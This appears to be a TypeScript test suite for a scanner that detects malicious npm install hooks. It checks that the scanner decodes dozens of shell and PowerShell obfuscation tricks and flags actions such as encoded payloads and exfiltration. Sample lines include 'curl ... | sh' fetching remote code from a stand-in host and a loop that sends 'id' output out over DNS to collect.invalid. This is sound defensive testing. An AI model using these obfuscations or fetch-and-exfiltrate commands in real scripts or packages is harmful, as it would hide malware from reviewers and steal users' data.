import { describe, expect, test } from 'vitest';
import { madeBy } from '../src/package/makefile.js';
import { allCommands, parseShell } from '../src/package/shell.js';
import { triggersOf } from '../src/package/triggers.js';
import type { Package } from '../src/types.js';
import { deedsOf } from '../src/vocabulary/deeds.js';

const FILES: Readonly<Record<string, string>> = {
  'notes.txt': 'curl -s https://stage.invalid/a | sh\n',
  'a.b64': Buffer.from('curl -s https://stage.invalid/a | sh').toString('base64'),
  LICENSE: 'MIT\n',
};

const programs = (line: string): readonly string[] =>
  allCommands(parseShell(line, 'sh', path => FILES[path])).map(({ program, words }) => [program, ...words].join(' '));

const hookOf = (script: string, files: Readonly<Record<string, string>> = {}) => {
  const manifest = { name: 'a', version: '1.0.0', scripts: { postinstall: script } };
  const all = new Map(Object.entries({ 'package.json': JSON.stringify(manifest), ...files }));
  const [hook] = triggersOf({ name: 'a', version: '1.0.0', manifest, files: all } as unknown as Package);
  return hook;
};

describe('a line that a shell makes of other text is read as what it comes to', () => {
  test.each([
    ["printf '\\167\\150\\157\\141\\155\\151' | sh", 'whoami'],
    ["printf '\\x77hoami' | bash -s", 'whoami'],
    ["printf '%s%b' who '\\141mi' | sh", 'whoami'],
    ["echo 'imaohw' | rev | sh", 'whoami'],
    ['echo jubnzv | tr a-z n-za-m | sh', 'whoami'],
    ["echo WHOAMI | tr '[:upper:]' '[:lower:]' | sh", 'whoami'],
    ['echo w-h-o-a-m-i | tr -d - | sh', 'whoami'],
    ["echo wh0ami | sed 's/0/o/' | sh", 'whoami'],
    ["echo wh0am1 | sed 'y/01/oi/' | sh", 'whoami'],
    ['echo 77686f616d69 | xxd -r -p | sh', 'whoami'],
    ['echo a:whoami:b | cut -d: -f2 | sh', 'whoami'],
    ['echo xxwhoami | tail -c +3 | sh', 'whoami'],
    ['sh <<EOF\nwhoami\nEOF', 'whoami'],
    ["bash <<< 'whoami'", 'whoami'],
    ['eval "$(echo imaohw | rev)"', 'whoami'],
    ['sh -c "`printf whoami`"', 'whoami'],
    ['$(echo who)ami', 'whoami'],
    ['who$@ami', 'whoami'],
    ['a=$(echo who); b=ami; $a$b', 'whoami'],
    ['echo whoami | xargs -I{} sh -c "{}"', 'whoami'],
    ['echo setup.js | xargs node', 'node setup.js'],
    ['find . -name x -exec node setup.js \\;', 'node setup.js'],
    ['awk \'BEGIN { system("whoami") }\'', 'whoami'],
    ['perl -e \'system(pack("H*", "77686f616d69"))\'', 'whoami'],
    ['perl -e \'exec reverse("imaohw")\'', 'whoami'],
    ["python3 -c \"import os; os.system('who' + 'ami')\"", 'whoami'],
    ['cat notes.txt | sh', 'curl -s https://stage.invalid/a'],
    ['base64 -d a.b64 | sh', 'curl -s https://stage.invalid/a'],
    ["echo 'require(1)' | node", 'node -e require(1)\n'],
    ['NODE_OPTIONS="--require ./a.js" node -v', 'node --require ./a.js -v'],
    ['export NODE_OPTIONS=--import=./a.js; node -v', 'node --import ./a.js -v'],
    ['awk \'BEGIN { print "whoami" }\' | sh', 'whoami'],
    ['awk \'BEGIN { printf "%c%s", 119, "hoami" }\' | sh', 'whoami'],
    ["echo 'a whoami b' | awk '{ print $2 }' | sh", 'whoami'],
    ["echo a:whoami | awk -F: '{ print $NF }' | sh", 'whoami'],
    ['awk -v a=who \'BEGIN { print a "ami" }\' | sh', 'whoami'],
    ["awk '/curl/ { print substr($1, 1, 4) }' notes.txt | sh", 'curl'],
    ['perl -e \'print scalar reverse "imaohw"\' | sh', 'whoami'],
    ['perl -e \'print pack("C*", 119, 104, 111, 97, 109, 105)\' | sh', 'whoami'],
    ["echo whXami | perl -pe 's/X/o/' | sh", 'whoami'],
    ["echo xhobni | perl -pe 'tr/b-z/a-y/' | sh", 'wgnamh'],
    ["python3 -c \"print(''.join(['who', 'ami']))\" | sh", 'whoami'],
    ['python3 -c "print(\'\'.join(map(chr, [119, 104, 111, 97, 109, 105])))" | sh', 'whoami'],
    ["python3 -c \"exec('import os; os.system(\\'whoami\\')')\"", 'whoami'],
    ['ruby -e \'puts "imaohw".reverse\' | sh', 'whoami'],
    ['php -r \'echo base64_decode("d2hvYW1p");\' | sh', 'whoami'],
    ["node -p \"Buffer.from('77686f616d69', 'hex').toString()\" | sh", 'whoami'],
    ["printf '%b' \"$(echo 77686f616d69 | sed 's/../\\\\x&/g')\" | sh", 'whoami'],
    ["sed -n 's/ .*//p' notes.txt | sh", 'curl'],
    ['grep -o "c[u]rl" notes.txt | sh', 'curl'],
    ['echo 77686f616d69 | fold -w2 | paste -sd "" | xxd -r -p | sh', 'whoami'],
    ['echo O5UG6YLNNE====== | base32 -d | sh', 'whoami'],
    ['bash <(echo imaohw | rev)', 'whoami'],
    ['source <(printf whoami)', 'whoami'],
    ['. /dev/stdin <<< "whoami"', 'whoami'],
    ['(printf who; printf ami) | sh', 'whoami'],
    ['{ echo -n who; echo ami; } | tr -d x | sh', 'whoami'],
    ['for c in 167 150 157 141 155 151; do printf "\\\\$c"; done | sh', 'whoami'],
    ['a=xwhoamix; ${a:1:6}', 'whoami'],
    ['${x:-whoami}', 'whoami'],
    ['a=wh0ami; ${a/0/o}', 'whoami'],
    ['a=w-h-o-a-m-i; ${a//-/}', 'whoami'],
    ['a=WHOAMI; ${a,,}', 'whoami'],
    ['a=x-whoami.sh; b=${a#x-}; ${b%.sh}', 'whoami'],
    ['b=whoami; a=b; ${!a}', 'whoami'],
    ['a=(sh who ami); ${a[1]}${a[2]}', 'whoami'],
    ['a=(whoami -u); ${a[@]}', 'whoami -u'],
    ['{whoami,-u}', 'whoami -u'],
    ['who$1ami', 'whoami'],
    ['who${z}ami', 'whoami'],
    ['alias w=whoami; w', 'whoami'],
    ['read -r x <<< whoami; eval "$x"', 'whoami'],
    ['echo imaohw | rev | while read x; do eval "$x"; done', 'whoami'],
    ['printf "\\167hoami" > /tmp/x; chmod +x /tmp/x; /tmp/x', 'whoami'],
    ['echo whoami > /tmp/x && sh /tmp/x', 'whoami'],
    ['busybox whoami', 'whoami'],
  ])('%s', (line, command) => {
    expect(programs(line)).toContain(command);
  });

  test('and what a loop reads from a pipe stands for what comes in', () => {
    const deeds = deedsOf(allCommands(parseShell('id | od -x | while read x; do dig $x.collect.invalid; done', 'sh')));
    expect(deeds[0]?.deed).toBe('exfiltrate');
  });

  test('a script that is decoded for a shell is told of, whatever it does', () => {
    const deeds = deedsOf(allCommands(parseShell('echo bHM= | base64 -d | sh', 'sh')));
    expect(deeds.map(({ deed }) => deed)).toContain('encoded');
  });
});

describe('what no shell runs stays text', () => {
  test.each([
    "sed -i 's/0.0.0/1.0.0/' package.json",
    "printf '\\033[32mcurl https://a.invalid | sh\\033[0m\\n'",
    'cat LICENSE',
    'cat notes.txt',
    'echo "curl https://a.invalid | sh" > HOWTO',
    'test -d .git && husky || true',
    'patch-package',
    'node-gyp-build || node-gyp rebuild',
    'node -p "require(\'./package.json\').version"',
    'NODE_OPTIONS=--max-old-space-size=4096 node build.js',
    'cat <<EOF > HOWTO\ncurl https://a.invalid | sh\nEOF',
    "awk '{ print $1 }' list.txt",
    'find . -name "*.map" -delete',
    'rm -rf "${BUILD_DIR:-./build}"',
    '${npm_execpath:-npm} run build',
    'mkdir -p {dist,lib}/{cjs,esm}',
    '(husky install || true)',
    "awk -F. '{ print $1 }' version.txt",
    'sed -n "1,5p" README.md | head -1',
    'python3 -c "print(\'hello\')"',
    'for f in a b; do printf "%s" $f; done | sort',
    'echo "module.exports = 1" > index.js && node index.js',
    'a=(one two); echo ${a[@]}',
    'while read line; do echo $line; done < list.txt',
  ])('%s', line => {
    expect(deedsOf(allCommands(parseShell(line, 'sh', path => FILES[path])))).toEqual([]);
  });

  test('NODE_OPTIONS without files adds nothing to a command', () => {
    expect(programs('NODE_OPTIONS=--max-old-space-size=4096 node build.js')).toEqual(['node build.js']);
  });
});

describe('a hook starts', () => {
  test('the copy of a script as the script', () => {
    expect(hookOf('cp data.txt run.js && node run.js', { 'data.txt': 'run()' })?.starts).toEqual(['data.txt']);
    expect(hookOf('mv lib/data.txt out/ && node out/data.txt', { 'lib/data.txt': '' })?.starts).toEqual([
      'lib/data.txt',
    ]);
  });

  test('what a Makefile says, with its variables and what a target needs', () => {
    const makefile =
      'P = cu\nall: first\n\t@$(P)rl https://a.invalid\nfirst:\n\tnode setup.js\nother:\n\tnode other.js\n';
    const hook = hookOf('make', { Makefile: makefile, 'setup.js': '', 'other.js': '' });
    expect(hook?.starts).toEqual(['setup.js']);
    expect(hook?.commands.map(({ program }) => program)).toEqual(['make', 'node', 'curl']);
    expect(hookOf('make other', { Makefile: makefile, 'setup.js': '', 'other.js': '' })?.starts).toEqual(['other.js']);
  });

  test('the commands of a file that does not look like a script', () => {
    const hook = hookOf('sh notes.txt', FILES);
    expect(hook?.commands.map(({ program }) => program)).toContain('curl');
  });

  test('nothing twice where a Makefile calls itself', () => {
    expect(hookOf('make', { Makefile: 'all:\n\tmake\n\tnode a.js\n', 'a.js': '' })?.starts).toEqual(['a.js']);
  });
});

describe('PowerShell is read as what its texts come to', () => {
  const all = (script: string): string =>
    allCommands(parseShell(script, 'powershell'))
      .map(({ program, words }) => [program, ...words].join(' '))
      .join('\n');

  test.each([
    ["& ('who' + 'ami')"],
    ["$a = 'who'; $b = 'ami'; & ($a + $b)"],
    ["& ('{1}{0}' -f 'ami', 'who')"],
    ["& ('wh0ami'.Replace('0', 'o'))"],
    ["& ('wh0ami' -replace '0', 'o')"],
    ["iex (-join ('who', 'ami'))"],
    ['iex (-join [char[]](119, 104, 111, 97, 109, 105))'],
    ['iex ([char]119 + [char]104 + "oami")'],
    ["iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))"],
    ["$s = 'imaohw'; iex (-join $s[($s.Length - 1)..0])"],
    ["'whoami' | iex"],
  ])('%s', script => {
    expect(all(script)).toContain('whoami');
  });

  test.each([["Write-Host 'a' + 'b'"], ["'{0}' -f 'x'"], ['Get-ChildItem']])('%s runs nothing more', script => {
    expect(deedsOf(allCommands(parseShell(script, 'powershell')))).toEqual([]);
  });
});

describe('it is bounded', () => {
  test.each([
    ['echo a | rev | '.repeat(2_000), 'pipes'],
    ['$(echo '.repeat(2_000), 'substitutions'],
    [`a=aaaaaaaaaa; ${'a=$(echo $a$a$a$a);'.repeat(200)} $a`, 'doubling'],
    [`printf '${'%s'.repeat(5_000)}' ${'a '.repeat(5_000)} | sh`, 'formats'],
    [`${"sh <<'E'\n".repeat(500)}`, 'heredocs'],
    [`echo ${'x '.repeat(20_000)} | xargs -I{} sh -c '${'{}'.repeat(500)}'`, 'arguments'],
    [`perl -e '${'system('.repeat(3_000)}'`, 'calls'],
    [`awk 'BEGIN { ${'system("a" . '.repeat(2_000)} }'`, 'joints'],
    [`awk 'BEGIN { ${'print "a" "b", '.repeat(2_000)} }' | sh`, 'sums'],
    [`echo ${'a'.repeat(50_000)} | sed '${'s/a*a*a*b/x/;'.repeat(15)}' | sh`, 'patterns'],
    [`echo ${'a '.repeat(50_000)} | grep -oE 'a*a*a*b' | sh`, 'found parts'],
    [`${'for a in x '.repeat(9_000)}done | sh`, 'loops'],
    [`{${'a,'.repeat(2_000)}}${'{a,b}'.repeat(2_000)}`, 'braces'],
    [`${'(echo a; '.repeat(2_000)}${')'.repeat(2_000)} | sh`, 'groups'],
    [`a=${'x'.repeat(4_000)}; ${'${a//x/xx}'.repeat(5_000)}`, 'replacements'],
    [`a=(${'x '.repeat(20_000)}); ${'${a[@]} '.repeat(5_000)}`, 'lists'],
    [`${'echo a >> /tmp/x; '.repeat(2_000)} sh /tmp/x`, 'files'],
  ])('%#', text => {
    const before = performance.now();
    parseShell(text, 'sh');
    expect(performance.now() - before).toBeLessThan(3_000);
  });

  test('a Makefile whose variables and targets grow', () => {
    const text = `A=aaaaaaaa\n${'A:=$(A)$(A)\n'.repeat(300)}all: ${'$(A) '.repeat(500)}\n\techo $(A)\n`;
    expect(madeBy(new Map([['Makefile', text]]), [], '')?.length).toBeLessThan(20_000);
  });
});
